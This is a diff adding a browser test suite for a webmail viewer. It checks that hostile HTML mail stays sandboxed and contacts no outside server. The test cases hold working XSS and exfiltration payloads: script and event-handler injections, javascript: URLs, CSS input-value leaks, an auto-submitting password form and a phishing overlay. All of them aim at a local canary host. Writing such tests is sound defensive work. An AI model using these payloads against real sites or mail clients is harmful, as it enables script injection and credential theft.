@@ -1,0 +1,228 @@
+import { once } from 'node:events'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { afterAll, beforeAll, expect, test } from '@jest/globals'
+import type { FrameLocator, Page } from 'playwright-core'
+import { freshAddress, sendMail } from '../support/mail.ts'
+import { inBrowser, newKey, openWithKey, PATIENCE_MS } from './browser.ts'
+
+/** Everywhere that a mail might want to reach; it counts connections, too, for some leave no request. */
+interface Canary {
+  url: string
+  paths: string[]
+  connections: number
+}
+
+inBrowser('hostile HTML stays caged', {}, (stage) => {
+  const canary: Canary = { url: '', paths: [], connections: 0 }
+  let server: Server
+  let key: string
+
+  beforeAll(async () => {
+    server = createServer((request, response) => {
+      canary.paths.push(request.url!)
+      response.setHeader('Access-Control-Allow-Origin', '*')
+      response.end()
+    })
+    server.on('connection', () => canary.connections++)
+    server.listen(0, '127.0.0.1')
+    await once(server, 'listening')
+    canary.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+    key = await newKey(stage().service)
+  })
+
+  afterAll(() => {
+    server?.closeAllConnections()
+    server?.close()
+  })
+
+  async function show(html: string): Promise<{ page: Page; mail: FrameLocator }> {
+    canary.paths = []
+    canary.connections = 0
+    const address = freshAddress()
+    await sendMail(stage().service.smtp, { to: address, subject: 'Hostile', html })
+    const page = await openWithKey(stage(), `/#${address}`, key)
+    page.on('dialog', () => stage().faults.push('a dialog was opened'))
+    page.on('download', () => stage().faults.push('a download was begun'))
+    await page.locator('.row .subject').click()
+    const mail = page.frameLocator('iframe.mail-frame').frameLocator('iframe')
+    await mail.locator('html').waitFor({ state: 'attached' })
+    // A text at its end would be no sign: some of these mails swallow whatever follows.
+    await page.frames()[2]!.waitForLoadState('load')
+    return { page, mail }
+  }
+
+  /** The page is where it was and does what it did; the mail's frame holds the mail and nothing else. */
+  async function unharmed(page: Page): Promise<void> {
+    expect(new URL(page.url()).origin).toBe(stage().service.http)
+    expect(page.context().pages()).toHaveLength(1)
+    const [, frame, mail, ...others] = page.frames()
+    expect([frame?.url(), mail?.url(), others]).toEqual([
+      `${stage().service.http}/frame.html`,
+      'about:srcdoc',
+      [],
+    ])
+    expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
+    expect(await frame!.evaluate(() => 'pwned' in globalThis)).toBe(false)
+    // What is at the place of the navigation is the navigation, and it works.
+    await page.getByRole('link', { name: 'Keys' }).click()
+    await page.getByRole('heading', { name: 'API keys' }).waitFor()
+    expect(canary.paths).toEqual([])
+    expect(canary.connections).toBe(0)
+    // The browser says what it refused, which is as it should be.
+    stage().faults.splice(0)
+  }
+
+  const CASES: Record<string, (url: string) => string> = {
+    scripts: (url) =>
+      `<script>top.pwned = 1; fetch('${url}/fetch')</script><script src="${url}/script.js"></script>` +
+      `<script type="module">import '${url}/module.js'</script>`,
+    'event handlers': (url) =>
+      `<img src=x onerror="parent.pwned=1;fetch('${url}/onerror')"><body onload="top.pwned=1">` +
+      `<details open ontoggle="top.pwned=1">x</details><input autofocus onfocus="top.pwned=1">` +
+      '<div style="animation:a 1ms" onanimationstart="top.pwned=1">x</div><style>@keyframes a{}</style>',
+    'script URLs': () =>
+      `<a href="javascript:top.pwned=1">a</a><iframe src="javascript:top.pwned=1"></iframe>` +
+      `<form action="javascript:top.pwned=1"><button>go</button></form>`,
+    'meta refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
+    base: (url) => `<base href="${url}/base/" target="_top"><img src="relative.png"><a href="x">relative</a>`,
+    'frames and objects': (url) =>
+      `<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed">` +
+      `<iframe srcdoc="<script>top.pwned=1</script><img src=${url}/nested>"></iframe><portal src="${url}/p"></portal>`,
+    'a frameset': (url) => `<frameset><frame src="${url}/frameset"></frameset>`,
+    'remote content of every kind': (url) =>
+      `<img src="${url}/img"><img srcset="${url}/srcset 2x"><picture><source srcset="${url}/source"><img></picture>` +
+      `<video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>` +
+      `<table background="${url}/table"><tr><td background="${url}/td">x</td></tr></table>` +
+      `<body background="${url}/body"><input type="image" src="${url}/input">` +
+      `<svg><image href="${url}/svg"/><use href="${url}/use#x"/></svg><track src="${url}/track">`,
+    'link elements': (url) =>
+      ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon', 'manifest']
+        .map((rel) => `<link rel="${rel}" href="${url}/${rel}" as="image">`)
+        .join(''),
+    'style that asks elsewhere': (url) =>
+      `<style>@import '${url}/import.css'; @font-face{font-family:f;src:url(${url}/font)}` +
+      `body{background:url(${url}/background);font-family:f;cursor:url(${url}/cursor),auto;list-style:url(${url}/list)}` +
+      `p::before{content:url(${url}/content)} input[value^="s"]{background:url(${url}/leak-s)}</style>` +
+      `<input value="secret"><div style="background-image:url('${url}/inline')">x</div>`,
+    'a form that sends itself': (url) =>
+      `<form id="f" action="${url}/form" method="post" target="_top"><input name="password" autofocus>` +
+      `<button formaction="${url}/formaction">Log in</button></form><script>f.submit()</script>`,
+    'SVG and MathML': (url) =>
+      `<svg onload="top.pwned=1"><script>top.pwned=1</script><a xlink:href="javascript:top.pwned=1"><text y="9">x</text></a>` +
+      `<foreignObject><iframe src="${url}/foreign"></iframe></foreignObject>` +
+      `<animate attributeName="href" values="javascript:top.pwned=1"/></svg>` +
+      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">`,
+    'tricks of position': () =>
+      '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">' +
+      '<a href="https://phishing.example/" style="position:absolute;inset:0">Log in again</a></div>' +
+      '<style>html,body{width:100vw;height:100vh;margin:-5000px}</style>',
+    'markup that closes what holds it': (url) =>
+      `</body></html></iframe>"'><img src="${url}/after"><script>top.pwned=1</script><!--</iframe>--><plaintext-not>`,
+  }
+
+  for (const [name, html] of Object.entries(CASES)) {
+    test(name, async () => unharmed((await show(html(canary.url))).page), PATIENCE_MS)
+  }
+
+  test(
+    'three megabytes of nested tables leave the page usable',
+    async () => {
+      const rows = '<table><tr><td>'.repeat(200) + 'x'.repeat(2_000_000) + '</table>'.repeat(200)
+      const { page } = await show(rows + '<p>row</p>'.repeat(60_000))
+      await unharmed(page)
+    },
+    PATIENCE_MS,
+  )
+
+  test(
+    'a form in the mail can be filled in and sent nowhere',
+    async () => {
+      const { page, mail } = await show(
+        `<form action="${canary.url}/form" target="_top"><input name="p"><button>Log in</button></form>`,
+      )
+      await mail.locator('input').fill('secret')
+      await mail.getByRole('button', { name: 'Log in' }).click()
+      await unharmed(page)
+    },
+    PATIENCE_MS,
+  )
+
+  test(
+    'remote images load only when asked for, and nothing else then',
+    async () => {
+      const { page } = await show(
+        `<img src="${canary.url}/wanted.png"><script src="${canary.url}/script.js"></script>` +
+          `<link rel="stylesheet" href="${canary.url}/style.css"><iframe src="${canary.url}/frame"></iframe>` +
+          `<style>@import '${canary.url}/import.css';</style><video src="${canary.url}/video"></video>`,
+      )
+      expect(canary.connections).toBe(0)
+      const asked = once(server, 'request')
+      await page.getByRole('button', { name: 'Load remote images' }).click()
+      await asked
+      const mail = page.frameLocator('iframe.mail-frame').frameLocator('iframe')
+      await mail.locator('img[src]').waitFor({ state: 'attached' })
+      expect(canary.paths).toEqual(['/wanted.png'])
+      stage().faults.splice(0)
+    },
+    PATIENCE_MS,
+  )
+
+  test(
+    'links open in a tab that knows nothing of the mailbox',
+    async () => {
+      for (const link of [`target="_top"`, `target="_self"`, `target="x" rel="opener"`, '']) {
+        const { page, mail } = await show(`<a ${link} href="${canary.url}/link">Follow</a>`)
+        const [tab] = await Promise.all([
+          page.context().waitForEvent('page'),
+          mail.getByRole('link', { name: 'Follow' }).click(),
+        ])
+        await tab.waitForURL(`${canary.url}/link`)
+        const seen = await tab.evaluate(() => ({ opener: opener === null, referrer: document.referrer }))
+        expect(seen).toEqual({ opener: true, referrer: '' })
+        expect(new URL(page.url()).origin).toBe(stage().service.http)
+      }
+    },
+    PATIENCE_MS,
+  )
+
+  test(
+    'text and headers of a mail are text',
+    async () => {
+      const address = freshAddress()
+      const markup = '<img src=x onerror="globalThis.pwned=1">'
+      await sendMail(stage().service.smtp, {
+        to: address,
+        from: { name: markup, address: 'a@example.org' },
+        subject: markup,
+        text: `${markup} javascript:alert(1) https://example.org/"onmouseover="x`,
+        headers: { 'X-Markup': markup },
+      })
+      const page = await openWithKey(stage(), `/#${address}`, key)
+      await page.locator('.row .subject').click()
+      await page.getByRole('tab', { name: 'Headers' }).click()
+      await page.getByRole('rowheader', { name: 'X-Markup' }).waitFor()
+      expect(await page.locator('main img').count()).toBe(0)
+      expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
+      for (const href of await page
+        .locator('.links a')
+        .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href))) {
+        expect(href).toMatch(/^https?:/)
+      }
+    },
+    PATIENCE_MS,
+  )
+
+  test(
+    'the frame by itself shows nothing and has no origin',
+    async () => {
+      const page = await stage().open('/frame.html')
+      expect(await page.evaluate(() => origin)).toBe('null')
+      await page.evaluate(() =>
+        postMessage({ html: '<p>from a stranger</p>', images: {}, remote: true }, '*'),
+      )
+      expect(await page.getByText('from a stranger').count()).toBe(0)
+    },
+    PATIENCE_MS,
+  )
+})
